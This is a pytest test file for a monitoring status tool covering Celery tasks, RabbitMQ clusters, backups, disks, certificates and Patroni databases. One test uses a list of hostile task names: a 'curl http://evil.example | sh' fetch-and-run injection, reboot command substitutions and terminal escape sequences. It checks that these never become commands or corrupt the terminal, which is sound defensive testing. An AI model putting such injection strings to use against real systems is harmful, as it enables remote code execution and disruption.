"""What the status makes of the facts: rules and words, tried without a host."""

import json
import os
import re
import shlex
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from project import ROOT, load_plugin

PROGRAM = ROOT / "roles/monitoring/files/status"
problems = load_plugin("roles/monitoring/files/status/problems.py")
runs = load_plugin("roles/monitoring/files/status/runs.py")
screen = load_plugin("roles/monitoring/files/status/screen.py")
words = load_plugin("roles/monitoring/files/status/words.py")

NOW = 1_800_000_000.0
SETTINGS: dict[str, Any] = {
    "app": "shop",
    "services": ["rabbitmq", "web", "worker", "beat"],
    "worker_hosts": 1,
    "workers": ["shop-worker.service"],
    "beat_hosts": 1,
    "late_tokens_minutes": 10,
    "old_backup_hours": 26,
}


def unit(service: str, **other: Any) -> dict[str, Any]:
    return {
        "name": f"shop-{service}.service",
        "service": service,
        "installed": True,
        "state": "active",
        "detail": "running",
        "since": NOW - 3600,
        "restarts": 0,
        "says": "",
        "invocation": "1",
        "fed_watchdog": NOW - 1,
        "memory": None,
        "exposure": None,
    } | other


def task(**other: Any) -> dict[str, Any]:
    return {
        "name": "sweep",
        "task": "shop.tasks.sweep",
        "enabled": True,
        "registered": True,
        "unreadable": None,
        "queue": None,
        "schedule": "every 10 seconds",
        "interval": 10.0,
        "sent": NOW - 5,
        "next": NOW + 5,
        "result": "succeeded",
        "ended": NOW - 5,
        "seconds": 0.1,
        "error": None,
        "succeeded": NOW - 5,
        "failures": 0,
        "running": None,
    } | other


BROKER = {"answers": True, "tools": True, "alarms": [], "login": True, "app_queues": ["sweeping"], "queues": []}


def facts(**other: Any) -> dict[str, Any]:
    return {
        "app": "shop",
        "at": NOW,
        "units": [unit(service) for service in SETTINGS["services"]],
        "failed_checks": {},
        "release": {"current": "abc", "since": NOW - 7200, "kept": 2},
        "project_error": None,
        "web": {"url": "http://127.0.0.1:8000/healthz", "status": 200},
        "database": {"answers": True, "vendor": "sqlite", "pending": [], "writable": True},
        "broker": BROKER,
        "workers": {"celery@one": ["shop.tasks.sweep"]},
        "runs_known": True,
        "disks": [{"path": "/var/lib/shop", "size": 2**40, "free": 2**36}],
        "backup": {"made": None, "timer_since": None, "failed": False, "error": None, "check_error": None},
        "member_certificates": {},
        "tasks": [task()],
        "expired_tokens": {"count": 0, "more": False, "oldest": None},
    } | other


def told(settings: dict[str, Any] = SETTINGS, **other: Any) -> list[tuple[int, str]]:
    return [(problem.level, problem.what) for problem in problems.find_problems(facts(**other), settings)]


def test_nothing_is_wrong_with_a_healthy_host() -> None:
    assert told() == []


@pytest.mark.parametrize(
    ("late", "level"), [(5, None), (90, None), (91, 1), (600, 1), (601, 2)], ids=lambda value: str(value)
)
def test_a_task_without_a_good_run_is_late_after_three_intervals_and_a_minute(late: float, level: int | None) -> None:
    found = told(tasks=[task(succeeded=NOW - late)])
    assert [problem[0] for problem in found] == ([level] if level else [])


@pytest.mark.parametrize(
    "other",
    [
        {"runs_known": False},
        {"settings": SETTINGS | {"services": ["worker"]}},
        {"units": [unit("worker", since=NOW - 30), unit("beat")]},
        {"tasks": [task(succeeded=None, interval=86400.0)]},
        {"tasks": [task(succeeded=None, enabled=False)]},
        {"tasks": [task(succeeded=None, running=NOW - 300)]},
        {"tasks": [task(succeeded=None, since=NOW - 30)]},
        {"tasks": [task(succeeded=NOW - 86400, since=NOW + 86400)]},
    ],
)
def test_a_run_that_this_host_cannot_know_of_is_not_missed(other: dict[str, Any]) -> None:
    assert told(**({"tasks": [task(succeeded=None)]} | other)) == []


def test_one_failure_is_a_warning_and_three_are_critical() -> None:
    failed = {"result": "failed", "error": "KeyError"}
    assert told(tasks=[task(**failed, failures=1)]) == [(1, "sweep failed at its last run (KeyError)")]
    assert told(tasks=[task(**failed, failures=3)]) == [(2, "sweep failed 3 times in a row (KeyError)")]


@pytest.mark.parametrize(
    ("count", "consumers", "name", "level"),
    [
        (100, 1, "sweeping", None),
        (101, 1, "sweeping", 1),
        (1001, 1, "sweeping", 2),
        (0, 0, "sweeping", 2),
        (1, 0, "kept", None),
    ],
)
def test_a_queue_may_wait_but_not_pile_up_or_be_alone(count: int, consumers: int, name: str, level: int | None) -> None:
    queues = [{"name": name, "messages": count, "consumers": consumers}]
    assert [problem[0] for problem in told(broker=BROKER | {"queues": queues})] == ([level] if level else [])


def test_a_row_with_a_queue_that_nobody_reads_may_get_another_one() -> None:
    queues = [{"name": name, "messages": 3, "consumers": 0} for name in ("sweeping", "old")]
    rows = [task(name="lost", queue="old"), task(name="sweep", queue="sweeping")]
    found = list(problems.find_problems(facts(broker=BROKER | {"queues": queues}, tasks=rows), SETTINGS))
    others = [problem.what.split()[6] for problem in found if "give lost another queue in the Admin" in problem.do]
    assert others == ["old"]
    assert len(found) == 2


def test_all_workers_are_named_by_what_is_to_be_done() -> None:
    settings = SETTINGS | {"workers": ["shop-worker.service", "shop-mail.service"]}
    alone = [{"name": "sweeping", "messages": 0, "consumers": 0}]
    late = [{"name": "sweeping", "messages": 101, "consumers": 1}]
    failed = [task(result="failed", error="KeyError", failures=1)]
    for other, do in (
        ({"broker": BROKER | {"queues": alone}}, "sudo systemctl restart shop-worker shop-mail, where they run"),
        ({"broker": BROKER | {"queues": late}}, "--unit=shop-worker --unit=shop-mail, where they run"),
        ({"tasks": failed}, "--unit=shop-beat --unit=shop-worker --unit=shop-mail '--grep="),
    ):
        (problem,) = problems.find_problems(facts(**other), settings)
        assert do in problem.do


def test_an_alarm_comes_before_what_follows_from_it() -> None:
    found = told(broker=BROKER | {"alarms": ["disk"]}, tasks=[task(succeeded=NOW - 1000)])
    assert [what.split()[0] for _, what in found] == ["the", "sweep"]


@pytest.mark.parametrize(("free", "level"), [(2**31, None), (2**31 - 1, 1), (2**29, 1), (2**29 - 1, 2)])
def test_a_disk_is_judged_by_what_is_free(free: int, level: int | None) -> None:
    disks = [{"path": "/var/lib/shop", "size": 2**40, "free": free}]
    assert [problem[0] for problem in told(disks=disks)] == ([level] if level else [])


HOUR = 3600


@pytest.mark.parametrize(
    ("made", "timer_since", "failed", "warned"),
    [
        (None, None, False, False),
        (None, 25 * HOUR, False, False),
        (None, 27 * HOUR, False, True),
        (25 * HOUR, 90 * HOUR, False, False),
        (27 * HOUR, 90 * HOUR, False, True),
        (27 * HOUR, None, False, False),
        (1 * HOUR, 90 * HOUR, True, True),
    ],
)
def test_a_backup_is_missed_only_while_its_timer_is_on(
    made: int | None, timer_since: int | None, failed: bool, warned: bool
) -> None:
    backup = {
        "made": made and NOW - made,
        "timer_since": timer_since and NOW - timer_since,
        "failed": failed,
        "error": None,
        "check_error": None,
    }
    assert [problem[0] for problem in told(backup=backup)] == ([1] if warned else [])


def test_a_failed_check_is_told_although_the_backups_go_well() -> None:
    backup = facts()["backup"] | {
        "made": NOW - HOUR,
        "timer_since": NOW - 9 * HOUR,
        "check_error": "pack 1a is damaged",
    }
    assert told(backup=backup) == [(1, "the last check of the backups failed")]


def test_a_recent_restart_is_a_warning_and_an_old_one_is_none() -> None:
    def restarted(seconds: float) -> list[tuple[int, str]]:
        return told(units=[unit("beat", restarts=2, since=NOW - seconds)], tasks=[])

    assert restarted(60) == [(1, "shop-beat.service was restarted 2 times, last 60 s ago")]
    assert restarted(601) == []


@pytest.mark.parametrize(
    ("seconds", "words"),
    [(-1, "0 s"), (119, "119 s"), (120, "2 min"), (7199, "120 min"), (7200, "2 h"), (200000, "2 d")],
)
def test_an_age_is_told_in_a_persons_unit(seconds: float, words: str) -> None:
    assert screen.age(seconds) == words


def test_columns_are_aligned() -> None:
    assert list(screen.table([["a", "1"], ["long", "22"]], right=(1,))) == ["a      1", "long  22"]


def lines_of(**other: Any) -> list[str]:
    """Return what would be printed of the facts: a line for each problem, and the screen."""
    found = facts(units=[unit("beat")], broker={}, **other)
    found["backup"] |= {"newest": None}
    lines = [*map(str, problems.find_problems(found, SETTINGS)), *screen.screen(found)]
    return [words.printable(line) for line in lines]


HOSTILE = [
    "x' ; curl http://evil.example | sh ; echo '",
    '"; reboot; "',
    "$(reboot) `reboot` ${IFS}",
    "\x1b[2J\x1b]0;title\x07\x9b31m",
    "two\nlines\r\nCRITICAL",
    "\u202etfel\u2066 \u2028",
    "--help",
]


@pytest.mark.parametrize("name", HOSTILE, ids=ascii)
@pytest.mark.parametrize(
    "other",
    [
        {"result": "failed", "failures": 5, "error": "KeyError"},
        {"succeeded": NOW - 1000},
        {"registered": False},
        {"unreadable": "TypeError"},
    ],
    ids=["failed", "late", "unknown", "unreadable"],
)
def test_a_name_neither_writes_on_the_terminal_nor_becomes_a_command(name: str, other: dict[str, Any]) -> None:
    """Pasting what is advised runs journalctl, with the name in one argument."""
    lines = lines_of(tasks=[task(name=name, task=name, **other)], workers={})
    assert all(line.isprintable() for line in lines)
    problem = next(line for line in lines if "→" in line)
    advised = problem.rpartition("→ ")[2]
    if "journalctl" in advised:
        arguments = shlex.split(advised)
        assert [part for part in arguments if not part.startswith("--")] == ["sudo", "journalctl"]
        assert re.fullmatch(arguments[-1].removeprefix("--grep="), words.printable(name))
    elif name in problem:
        assert name not in advised


SENDS = {"active": True, "says": "active: 3 entries, next look in 5 s"}
STANDBY = {"active": False, "says": "standby, because another beat is active"}


def test_one_beat_of_several_on_standby_is_healthy() -> None:
    units = [unit("beat") | {"says": STANDBY["says"]}]
    several = SETTINGS | {"beat_hosts": 2}
    assert told(several, units=units, tasks=[], beats={"celerybeat@one": SENDS, "celerybeat@two": STANDBY}) == []
    # Whose answer is missing may be active.
    assert told(several, units=units, tasks=[], beats={"celerybeat@two": STANDBY}) == []
    assert told(several, units=units, tasks=[]) == []
    # The only one there should be has no reason to be on standby.
    assert told(units=units, tasks=[]) == [(2, "beat says: standby, because another beat is active")]


def test_several_beats_of_which_none_is_active_are_critical() -> None:
    several = SETTINGS | {"beat_hosts": 2}
    found = told(several, tasks=[], beats={"celerybeat@one": STANDBY, "celerybeat@two": STANDBY})
    assert [level for level, _ in found] == [2]
    assert found[0][1].startswith("no beat is active (celerybeat@one: standby, because")
    waits = [unit("beat") | {"says": "waiting for the broker: refused"}]
    assert told(several, units=waits, tasks=[]) == [(2, "beat says: waiting for the broker: refused")]


def test_the_screen_names_each_beat() -> None:
    lines = list(screen._beat(facts(beats={"celerybeat@two": STANDBY, "celerybeat@one": SENDS})))
    assert "celerybeat@one: active: 3 entries, next look in 5 s" in "\n".join(lines)
    assert "celerybeat@two: standby, because another beat is active" in "\n".join(lines)


def test_a_task_that_no_worker_knows_is_critical() -> None:
    known = {"celery@one": ["shop.tasks.sweep"], "celery@two": ["shop.tasks.other"], "celery@mute": None}
    assert told(tasks=[task(task="shop.tasks.other")], workers=known) == []
    (level, what) = told(tasks=[task(task="shop.tasks.old")], workers=known)[0]
    assert (level, what) == (2, "sweep calls shop.tasks.old, which no worker knows")
    assert told(tasks=[task(task="shop.tasks.old", enabled=False)], workers=known) == []
    # None answers: the release tells.
    assert told(tasks=[task(registered=True)], workers={}) == []
    assert told(tasks=[task(registered=False)], workers={})[0][0] == 2


def test_a_row_that_beat_skips_is_critical() -> None:
    skipped = task(unreadable="headers: must be a JSON object", interval=None, succeeded=None)
    assert told(tasks=[skipped]) == [(2, "beat skips sweep (headers: must be a JSON object)")]


def test_messages_that_come_too_late_are_told_as_such() -> None:
    found = problems.find_problems(facts(tasks=[task(succeeded=NOW - 200, result="expired")]), SETTINGS)
    assert [(problem.level, "clocks" in problem.means) for problem in found] == [(1, True)]


def test_a_broker_that_left_because_of_its_disk_is_not_to_be_started() -> None:
    stopped = [unit("rabbitmq", state="inactive"), unit("worker")]
    name = stopped[0]["name"]
    assert (2, f"{name} is stopped") in told(units=stopped)
    found = told(units=stopped, broker=BROKER | {"disk_full": True})
    assert found == [(1, f"{name} is stopped until its disk has space")]


@pytest.mark.parametrize(
    ("broker", "says", "levels"),
    [
        ({"answers": False, "tools": False, "alarms": None, "queues": None}, "", [2]),
        ({"answers": True, "tools": False, "alarms": None, "queues": None}, "", [1]),
        # Who has just logged in knows better.
        ({"answers": False, "tools": False, "alarms": None, "queues": None, "login": True}, "", [1]),
        ({"login": False, "login_error": "TimeoutError"}, "", [2]),
        ({"login": False, "login_error": "TimeoutError"}, "consuming celery; 1 process(es)", [1]),
        ({"login": False, "login_error": "AccessRefused"}, "consuming celery; 1 process(es)", [2]),
        ({"login": False, "login_error": "ConnectionRefusedError"}, "waiting for the broker", [2]),
    ],
)
def test_a_slow_broker_is_not_called_dead(broker: dict[str, Any], says: str, levels: list[int]) -> None:
    units = [unit("rabbitmq"), unit("worker", says=says)]
    settings = SETTINGS | {"services": ["rabbitmq", "worker"]}
    assert [level for level, _ in told(settings, units=units, broker=broker)] == levels


@pytest.fixture
def port() -> Iterator[int]:
    """Answer each connection with one byte, but for the first, which gets nothing."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            first, _ = server.accept()
            second, _ = server.accept()
            second.sendall(b"\x01")
            second.close()
            first.close()

        threading.Thread(target=serve, daemon=True).start()
        yield server.getsockname()[1]


@pytest.mark.parametrize(
    ("cluster", "says", "levels"),
    [
        ({}, "", []),
        ({"running": ["10.0.0.1", "10.0.0.2"], "away": ["10.0.0.3"]}, "of the brokers 10.0.0.3 is away", [1]),
        ({"running": ["10.0.0.1"], "away": ["10.0.0.2", "10.0.0.3"]}, "10.0.0.2, 10.0.0.3 are away", [2]),
        ({"divided": True}, "the cluster of brokers is divided", [2]),
        ({"strange": ["10.0.0.4"]}, "the cluster still knows 10.0.0.4", [1]),
        ({"queues": [{"online": ["rabbit@10.0.0.1"]}]}, "the queue sweeping lacks 2 of 3 copies", [1]),
    ],
    ids=["whole", "one away", "two away", "divided", "not forgotten", "a copy is missing"],
)
def test_a_cluster_of_brokers_that_isnt_whole_is_told(cluster: dict[str, Any], says: str, levels: list[int]) -> None:
    addresses = ["10.0.0.1", "10.0.0.2", "10.0.0.3"]
    nodes = [f"rabbit@{address}" for address in addresses]
    queue = {"name": "sweeping", "messages": 0, "consumers": 1, "leader": nodes[0], "members": nodes, "online": nodes}
    queue["type"] = "quorum"
    queues = [queue | more for more in cluster.pop("queues", [{}])]
    queues.append(queue | {"name": "x.pidbox", "type": "classic", "members": nodes[:1], "online": ""})
    whole: dict[str, Any] = {"running": addresses, "away": [], "strange": [], "divided": False}
    broker = BROKER | {"cluster": whole | cluster, "queues": queues}
    found = told(broker=broker)
    assert [level for level, _ in found] == levels
    assert says in " ".join(what for _, what in found)
    shown = "\n".join(screen.screen(facts(broker=broker | {"version": "4", "memory": 1, "memory_limit": 2})))
    assert f"{len((whole | cluster)['running'])} of 3 brokers work" in shown
    assert "copies, led by 10.0.0.1" in shown


def test_what_rabbitmqctl_says_of_a_cluster_is_read_by_address(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.syspath_prepend(str(PROGRAM))
    broker = load_plugin("roles/monitoring/files/status/broker.py")
    status = {
        "running_nodes": ["rabbit@10.0.0.1", "rabbit@10.0.0.2"],
        "disk_nodes": [f"rabbit@10.0.0.{number}" for number in (1, 2, 4)],
        "partitions": {},
    }
    assert broker.read_cluster(["10.0.0.1", "10.0.0.2", "10.0.0.3"], status) == {
        "running": ["10.0.0.1", "10.0.0.2"],
        "away": ["10.0.0.3"],
        "strange": ["10.0.0.4"],
        "divided": False,
    }


def test_a_broker_that_answers_is_told_from_one_that_hangs(port: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.syspath_prepend(str(PROGRAM))
    broker = load_plugin("roles/monitoring/files/status/broker.py")
    monkeypatch.setattr(broker, "LAST_SECONDS", 1)
    assert broker.says_hello("127.0.0.1", port) is False
    assert broker.says_hello("127.0.0.1", port) is True
    with socket.create_server(("127.0.0.1", 0)) as closed:
        free = closed.getsockname()[1]
    assert broker.says_hello("127.0.0.1", free) is False


def test_notes_of_a_service_are_read_whatever_lies_beside_them(tmp_path: Path) -> None:
    good = {"entry": "sweep", "result": "succeeded", "ended": 5.5, "failures": 0, "running": None, "secret": "x"}
    (tmp_path / "1.json").write_text(json.dumps(good))
    (tmp_path / "2.json").write_text(json.dumps({"entry": "odd", "ended": "now", "running": {"since": 7}}))
    for number, text in enumerate(
        ["", "[", "[]", "null", '{"entry": 5}', "[" * 100_000, '{"entry": "x' + "x" * 200_000]
    ):
        (tmp_path / f"bad{number}.json").write_text(text)
    (tmp_path / "9.tmp").write_text(json.dumps(good))
    (tmp_path / "link.json").symlink_to(tmp_path / "9.tmp")
    os.mkfifo(tmp_path / "pipe.json")
    (tmp_path / "folder.json").mkdir()
    assert runs.read_runs(str(tmp_path)) == [
        {"entry": "sweep", "result": "succeeded", "ended": 5.5, "failures": 0, "running": None},
        {"entry": "odd", "running": 7},
    ]
    (tmp_path / "alias").symlink_to(tmp_path)
    assert runs.read_runs(str(tmp_path / "alias")) == runs.read_runs(str(tmp_path / "none")) == []


def test_of_several_workers_the_last_run_counts() -> None:
    early = {"entry": "sweep", "ended": 5, "result": "succeeded", "succeeded": 5, "running": None}
    late = {"entry": "sweep", "ended": 9, "result": "failed", "succeeded": 2, "running": 3}
    expected = {"entry": "sweep", "ended": 9, "result": "failed", "succeeded": 5, "running": 3}
    assert runs.newest([late, early]) == runs.newest([early, late]) == {"sweep": expected}


@pytest.mark.parametrize(
    ("days", "left", "other", "found"),
    [
        (90, 60, {}, []),
        (90, 23, {}, []),
        (90, 22, {}, [(1, "the certificate ends in 22.0 days, 24% of its life")]),
        (90, 8, {}, [(2, "the certificate ends in 8.0 days, 9% of its life")]),
        (6, 2, {}, []),
        (6, 1, {}, [(1, "the certificate ends in 1.0 days, 17% of its life")]),
        (90, -0.5, {}, [(2, "the certificate expired 12 h ago")]),
        (90, 60, {"self_signed": True}, [(2, "the certificate is self-signed")]),
        (90, 60, {"self_signed": True, "from_authority": False}, []),
        (90, 60, {"until": None}, [(2, "the certificate can't be read")]),
    ],
)
def test_a_certificate_is_told_by_the_share_of_its_life(
    days: float, left: float, other: dict[str, Any], found: list[tuple[int, str]]
) -> None:
    until = NOW + left * 86400
    certificate = {"since": until - days * 86400, "until": until, "issuer": "CN=x", "self_signed": False}
    assert told(certificate=certificate | {"from_authority": True} | other) == found


DATABASES: dict[str, Any] = {
    "primary": "10.0.0.1",
    "members": [
        {"address": "10.0.0.1", "role": "Leader", "state": "running", "behind_mb": None},
        {"address": "10.0.0.2", "role": "Quorum Standby", "state": "streaming", "behind_mb": 3},
    ],
    "away": [],
    "copies": 1,
}


@pytest.mark.parametrize(
    ("other", "says", "levels"),
    [
        ({}, "3 MB behind", []),
        ({"members": None}, "patronictl gives no answer about the databases", [2]),
        ({"primary": None}, "no database is the primary", [2]),
        ({"away": ["10.0.0.3"]}, "of the databases 10.0.0.3 is away", [1]),
        ({"copies": 0}, "no other database has all that the primary has", [1]),
    ],
)
def test_databases_that_arent_whole_are_told(other: dict[str, Any], says: str, levels: list[int]) -> None:
    found = facts(databases=DATABASES | other, units=[unit("patroni")], broker={}, tasks=None)
    told_of = problems.find_problems(found, SETTINGS | {"services": ["patroni"]})
    assert [problem.level for problem in told_of] == levels
    assert says in "\n".join([*map(str, told_of), *screen.screen(found)])


@pytest.mark.parametrize(
    ("days", "told_of"), [(None, []), (400, []), (100, [(1, "in 100 days")]), (-3, [(1, "in -3 days")])]
)
def test_the_end_of_a_certificate_by_which_other_hosts_know_a_server_is_told(
    days: int | None, told_of: list[tuple[int, str]]
) -> None:
    found = told(member_certificates={"database": days and NOW + days * 86400})
    assert found == [(level, f"the certificate of this database ends {end}") for level, end in told_of]


def test_what_patronictl_says_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    rows = [
        {"Host": "10.0.0.2", "Role": "Quorum Standby", "State": "streaming", "Lag in MB": 0},
        {"Host": "10.0.0.1", "Role": "Leader", "State": "running"},
        {"Host": "10.0.0.3", "Role": "Replica", "State": "stopped", "Lag in MB": "unknown"},
    ]
    monkeypatch.syspath_prepend(str(PROGRAM))
    databases = load_plugin("roles/monitoring/files/status/databases.py")
    answer = databases.run(["echo", json.dumps(rows)], 5)
    monkeypatch.setattr(databases, "run", lambda *_: answer)
    read = databases.read_databases(["10.0.0.1", "10.0.0.2", "10.0.0.3"], 5)
    assert (read["primary"], read["away"], read["copies"]) == ("10.0.0.1", ["10.0.0.3"], 1)
    assert [member["address"] for member in read["members"]] == ["10.0.0.1", "10.0.0.2", "10.0.0.3"]


def test_programs_take_options_as_they_always_do(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("POSIXLY_CORRECT", "1")
    commands = load_plugin("roles/monitoring/files/status/commands.py")
    assert commands.run(["getopt", "-o", "l", "--", "name", "-l"], 5).out == " -l -- 'name'\n"
